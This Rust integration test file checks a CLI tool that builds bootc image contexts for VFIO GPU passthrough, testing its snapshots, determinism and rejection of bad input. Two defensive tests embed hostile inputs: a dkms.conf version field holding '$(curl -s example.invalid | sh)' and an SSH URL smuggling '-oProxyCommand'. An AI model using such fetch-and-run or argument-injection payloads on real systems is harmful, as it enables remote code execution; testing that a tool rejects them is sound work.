//! `plan` and `generate` through the real binary: the build context per CPU x GPU x device IDs (snapshots),
//! determinism, bootc's kargs.d rules, and bad input (exit 2, nothing written).

mod common;

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use passthru_image::kargs_d::KargsD;

fn bin() -> Command {
    let mut cmd = Command::cargo_bin("passthru-image").unwrap();
    // No ./passthru.toml of the developer's may leak in, and `auto` must never read this machine.
    cmd.current_dir(std::env::temp_dir());
    cmd
}

/// Every file of a tree with its mode, content for text files.
fn read_tree(root: &Path) -> BTreeMap<String, (u32, Vec<u8>)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let entry = entry.unwrap();
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let rel = path
                    .strip_prefix(root)
                    .unwrap()
                    .to_string_lossy()
                    .into_owned();
                let mode = entry.metadata().unwrap().permissions().mode() & 0o7777;
                out.insert(rel, (mode, std::fs::read(&path).unwrap()));
            }
        }
    }
    out
}

fn generate(dir: &Path, args: &[&str]) -> BTreeMap<String, (u32, Vec<u8>)> {
    bin()
        .args(["generate", "-q", "-o"])
        .arg(dir)
        .args(args)
        .assert()
        .success();
    read_tree(dir)
}

/// The context as one reviewable text: every file's path and mode, and the content of all but the static
/// scripts and dracut module (embedded verbatim and reviewed as code in layers/) and the plan's record (the
/// plan as `plan --json` shows it; tests/host_cli.rs reads it back).
fn describe(tree: &BTreeMap<String, (u32, Vec<u8>)>) -> String {
    let mut text = String::new();
    for (path, (mode, content)) in tree {
        text.push_str(&format!("=== {path} ({mode:04o})\n"));
        let shown_by_name = path.starts_with("scripts/")
            || path.contains("/dracut/modules.d/")
            || path.ends_with("/passthru-image/plan.json");
        if !shown_by_name {
            text.push_str(&String::from_utf8_lossy(content));
        }
    }
    text
}

const GPU_IDS: &[(&str, &str)] = &[
    ("nvidia", "10de:2684,10de:22ba"),
    ("amd", "1002:744c,1002:ab30"),
    ("intel", "8086:56a0,8086:4f90"),
];

#[test]
fn generated_contexts_per_cpu_gpu_and_ids() {
    for cpu in ["intel", "amd"] {
        for (gpu, ids) in GPU_IDS {
            for with_ids in [true, false] {
                let dir = tempfile::tempdir().unwrap();
                let out = dir.path().join("ctx");
                let mut args = vec!["--cpu", cpu, "--gpu", gpu];
                if with_ids {
                    args.extend(["--vfio-ids", ids]);
                }
                let tree = generate(&out, &args);
                let name = format!(
                    "{cpu}_cpu_{gpu}_gpu_{}",
                    if with_ids { "with_ids" } else { "no_ids" }
                );
                insta::assert_snapshot!(name, describe(&tree));

                let kargs_d = &tree["layers/host/usr/lib/bootc/kargs.d/50-passthru.toml"].1;
                let parsed = KargsD::parse(std::str::from_utf8(kargs_d).unwrap())
                    .expect("bootc accepts kargs.d");
                assert_eq!(
                    parsed.match_architectures.as_deref(),
                    Some(&["x86_64".to_owned()][..])
                );
                let planned = common::planned_kargs(&args);
                assert_eq!(
                    parsed.kargs, planned,
                    "kargs.d holds exactly the planned kargs, in order"
                );
            }
        }
    }
}

#[test]
fn plan_json_for_amd_cpu_and_nvidia_gpu_lists_what_the_kernel_takes_once() {
    let kargs = common::planned_kargs(&[
        "--cpu",
        "amd",
        "--gpu",
        "nvidia",
        "--vfio-ids",
        "10de:2684,10de:22ba",
    ]);
    assert_eq!(
        kargs,
        [
            "iommu=pt",
            "kvm_amd.npt=1",
            "kvm_amd.avic=1",
            "kvm_amd.nested=1",
            "kvm_amd.sev=1",
            "rd.driver.pre=vfio-pci",
            "vfio_pci.ids=10de:2684,10de:22ba",
        ]
    );
    let out = bin()
        .args(["plan", "--json", "--cpu", "intel", "--gpu", "amd"])
        .output()
        .unwrap();
    let plan: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    for key in [
        "kargs",
        "initramfs_drivers",
        "files",
        "kernel",
        "modules",
        "omitted_kargs",
        "vfio",
    ] {
        assert!(plan.get(key).is_some(), "plan --json lacks {key}");
    }
    // Each guide argument left out says why, for someone following the guide.
    let omitted = plan["omitted_kargs"].as_array().unwrap();
    assert!(omitted.iter().any(|o| {
        o["karg"] == "amdgpu.aspm=0"
            && o["reason"]
                .as_str()
                .unwrap()
                .contains("gpu.disable-amdgpu-aspm")
    }));
    assert_eq!(
        plan["host"],
        serde_json::Value::Null,
        "no --root: planned from the config alone"
    );
    assert_eq!(plan["kernel"], serde_json::Value::Null);
    assert_eq!(
        plan["initramfs_drivers"],
        serde_json::json!(["vfio", "vfio_iommu_type1", "vfio_pci"])
    );
}

/// A passthru.toml in `dir` whose vendor-reset source is the stand-in module: a local directory, or the
/// stand-in's git repository `(URL, commit)`.
fn standin_config(dir: &Path, git: Option<(&str, &str)>) -> PathBuf {
    let source = match git {
        Some((url, commit)) => format!("git = \"{url}\"\ncommit = \"{commit}\""),
        None => format!("path = \"{}\"", common::standin_source().display()),
    };
    let path = dir.join("passthru.toml");
    std::fs::write(&path, format!("[vendor-reset]\n{source}\n")).unwrap();
    path
}

#[test]
fn generate_is_byte_for_byte_deterministic() {
    let dir = tempfile::tempdir().unwrap();
    // A git source is fetched afresh by each run: its files in the context are the same each time.
    let (repo, commits) = common::git_repository_of(&common::standin_source(), &[]);
    let url = common::file_url(repo.path());
    let config = standin_config(dir.path(), Some((&url, &commits[0])));
    let config = config.to_str().unwrap();
    let args = [
        "--config",
        config,
        "--cpu",
        "amd",
        "--gpu",
        "amd",
        "--vfio-ids",
        "1002:67df,1002:aaf0",
    ];
    let first = generate(&dir.path().join("a"), &args);
    let second = generate(&dir.path().join("b"), &args);
    assert_eq!(first, second);
    assert!(first.contains_key("sources/vendor-reset-standin/dkms.conf"));
    assert!(
        !first.keys().any(|path| path.contains(".git/")),
        "git metadata in the context"
    );
    // Regenerating into its own directory is allowed and gives the same tree.
    let again = generate(&dir.path().join("a"), &args);
    assert_eq!(first, again);
    // Every file carries the same fixed mtime, so engines that look at metadata cache as well.
    let mtimes: std::collections::BTreeSet<_> = walk_mtimes(&dir.path().join("a"));
    assert_eq!(mtimes.len(), 1, "{mtimes:?}");
}

fn walk_mtimes(root: &Path) -> std::collections::BTreeSet<std::time::SystemTime> {
    read_tree(root)
        .keys()
        .map(|rel| {
            std::fs::metadata(root.join(rel))
                .unwrap()
                .modified()
                .unwrap()
        })
        .collect()
}

#[test]
fn regenerating_replaces_its_own_directory_whole() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("ctx");
    let config = standin_config(dir.path(), None);
    let with_reset = generate(
        &out,
        &[
            "--config",
            config.to_str().unwrap(),
            "--cpu",
            "amd",
            "--gpu",
            "amd",
            "--vfio-ids",
            "1002:67df",
        ],
    );
    assert!(
        with_reset.contains_key("layers/host/usr/lib/udev/rules.d/99-passthru-vendor-reset.rules")
    );
    let without = generate(
        &out,
        &[
            "--config",
            config.to_str().unwrap(),
            "--cpu",
            "amd",
            "--gpu",
            "amd",
            "--vfio-ids",
            "1002:744c",
        ],
    );
    assert!(
        !without.contains_key("layers/host/usr/lib/udev/rules.d/99-passthru-vendor-reset.rules"),
        "stale file left behind"
    );
}

#[test]
fn generate_refuses_a_foreign_non_empty_directory_unless_forced() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("notes.txt"), "mine").unwrap();
    let out = bin()
        .args(["generate", "--cpu", "intel", "-o"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--force"));
    assert_eq!(read_tree(dir.path()).len(), 1, "nothing written");

    bin()
        .args(["generate", "-q", "--force", "--cpu", "intel", "-o"])
        .arg(dir.path())
        .assert()
        .success();
    let tree = read_tree(dir.path());
    assert!(tree.contains_key("Containerfile") && tree.contains_key("notes.txt"));

    // A forced write does not make the directory ours: the next run without --force is refused again,
    // instead of replacing the directory (and the user's notes) whole.
    let out = bin()
        .args(["generate", "--cpu", "intel", "-o"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(dir.path().join("notes.txt").exists());
}

/// Each bad value exits 2, names the field, and writes nothing.
#[test]
fn bad_input_exits_2_naming_the_field_and_writes_nothing() {
    let configs: &[(&str, &str)] = &[
        ("[vfio]\nids = [\"10de:xyz\"]\n", "vfio.ids[0]"),
        ("[vfio]\nunknown = 1\n", "vfio.unknown"),
        ("[kargs]\nextra = [\"quiet splash\"]\n", "kargs.extra[0]"),
        ("[kargs]\nextra = [\"a='b'\"]\n", "kargs.extra[0]"),
        ("[cpu]\nvendor = \"via\"\n", "cpu.vendor"),
        ("[gpu]\nvendors = [\"3dfx\"]\n", "gpu.vendors[0]"),
        (
            "[cpu]\nvendor = \"intel\"\n[kargs]\nextra = [\"iommu=off\"]\n",
            "kargs.extra[0]",
        ),
        ("[image]\nbase = \"quay.io/x:1 AS y\"\n", "image.base"),
    ];
    for (config, field) in configs {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("passthru.toml");
        std::fs::write(&file, config).unwrap();
        let out_dir = dir.path().join("ctx");
        let out = bin()
            .arg("--config")
            .arg(&file)
            .args(["generate", "-o"])
            .arg(&out_dir)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{config:?}: {stderr}");
        assert!(
            stderr.contains(field),
            "{config:?}: {stderr} does not name {field}"
        );
        assert!(!out_dir.exists(), "{config:?}: wrote {}", out_dir.display());
    }
    let flags: &[(&[&str], &str)] = &[
        (&["--vfio-ids", "10de:2684,nvidia"], "--vfio-ids"),
        (&["--cpu", "arm"], "--cpu"),
        (&["--gpu", "matrox"], "--gpu"),
        (&["--base", "UPPER/case"], "--base"),
    ];
    for (args, flag) in flags {
        let out = bin().args(["plan"]).args(*args).output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(flag), "{args:?}: {stderr}");
    }
    let out = bin()
        .args(["--config", "/nonexistent/passthru.toml", "plan"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--config"));
}

#[test]
fn a_fetched_dkms_conf_that_needs_a_shell_is_bad_input_and_nothing_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = "PACKAGE_NAME=\"vendor-reset-standin\"\nPACKAGE_VERSION=\"$(curl -s example.invalid | sh)\"\n";
    let (repo, commits) =
        common::git_repository_of(&common::standin_source(), &[("dkms.conf", hostile)]);
    let url = common::file_url(repo.path());
    let config = standin_config(dir.path(), Some((&url, &commits[1])));
    let out = dir.path().join("ctx");
    let output = bin()
        .arg("--config")
        .arg(&config)
        .args(["generate", "--cpu", "amd", "--vfio-ids", "1002:67df", "-o"])
        .arg(&out)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "vendor-reset.git: dkms.conf at {} of {url}, line 2: $(...) is command substitution",
            commits[1]
        )),
        "{stderr}"
    );
    assert!(!out.exists(), "a context was written");
}

#[test]
fn plan_names_the_commit_of_a_git_source_without_fetching_it() {
    let dir = tempfile::tempdir().unwrap();
    // Nothing is served at this URL: plan must not try.
    let config = standin_config(
        dir.path(),
        Some((
            "https://example.invalid/vendor-reset.git",
            "29b25fd6929a2215477a5e39b29a0d5c4d45b6e9",
        )),
    );
    let plan = |json: bool| {
        let mut cmd = bin();
        cmd.arg("--config").arg(&config);
        cmd.args(["plan", "--cpu", "amd", "--vfio-ids", "1002:67df"]);
        if json {
            cmd.arg("--json");
        }
        let out = cmd.output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    let text = plan(false);
    assert!(
        text.contains(
            "Module: from dkms.conf at 29b25fd6929a2215477a5e39b29a0d5c4d45b6e9 of https://example.invalid/vendor-reset.git;"
        ),
        "{text}"
    );
    let json: serde_json::Value = serde_json::from_str(&plan(true)).unwrap();
    let module = &json["modules"][0];
    assert_eq!(
        module["from"],
        "dkms.conf at 29b25fd6929a2215477a5e39b29a0d5c4d45b6e9 of https://example.invalid/vendor-reset.git"
    );
    assert_eq!(module["name"], serde_json::Value::Null);
    assert_eq!(module["version"], serde_json::Value::Null);
}

#[test]
fn an_ssh_url_whose_host_is_an_option_is_bad_input() {
    let dir = tempfile::tempdir().unwrap();
    let config = standin_config(
        dir.path(),
        Some((
            "ssh://-oProxyCommand=touch%20/tmp/pwned/x",
            "29b25fd6929a2215477a5e39b29a0d5c4d45b6e9",
        )),
    );
    let output = bin()
        .arg("--config")
        .arg(&config)
        .args(["plan", "--cpu", "amd"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("vendor-reset.git") && stderr.contains("may not start with `-`"),
        "{stderr}"
    );
}
